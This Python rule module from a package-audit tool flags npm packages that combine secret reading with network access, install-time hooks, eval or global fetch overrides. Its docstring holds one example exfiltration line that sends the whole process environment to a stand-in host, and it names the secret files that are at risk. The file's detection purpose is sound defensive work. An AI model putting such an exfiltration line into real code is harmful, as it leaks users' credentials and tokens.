"""Powers that are dangerous together.

**What.** A package holds a combination of powers that attacks are made of: it reads secrets (tokens in the
environment, `.npmrc`, `.ssh`, wallets) or the whole environment and can send them out; what it runs at install
uses the network or starts programs; it makes code from text beside the network or decryption; it replaces
`fetch`, `XMLHttpRequest` or `http.request` for the whole program.

**Why.** One power alone is not news: web servers use the network. The combination, close together, in code
that is loaded, is what a stolen package looks like. The closer the places, the higher the confidence.

**Example.** `https.request({host: "collect.invalid"}).end(JSON.stringify(process.env))`. Reading
`HTTP_PROXY`, or the token of one's own service (`SENTRY_AUTH_TOKEN` in `@sentry/...`), is not reported.

**What to do.** Read the places. If they are right, the package does what it says: say why in a waiver of
contain.json. If not, remove it before anything else runs, and change the secrets that it could read.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from audit.rules.combinations import evaluation, hooks, installing, secrets

if TYPE_CHECKING:
    from collections.abc import Iterator

    from audit.rules.draft import Draft
    from audit.rules.subject import Subject

COMBINATIONS = (secrets.check, installing.check, evaluation.check, hooks.check)


def check(subject: Subject) -> Iterator[Draft]:
    """Yield a result for each combination that a package's own code holds."""
    for package in subject.code():
        for combination in COMBINATIONS:
            yield from combination(package)
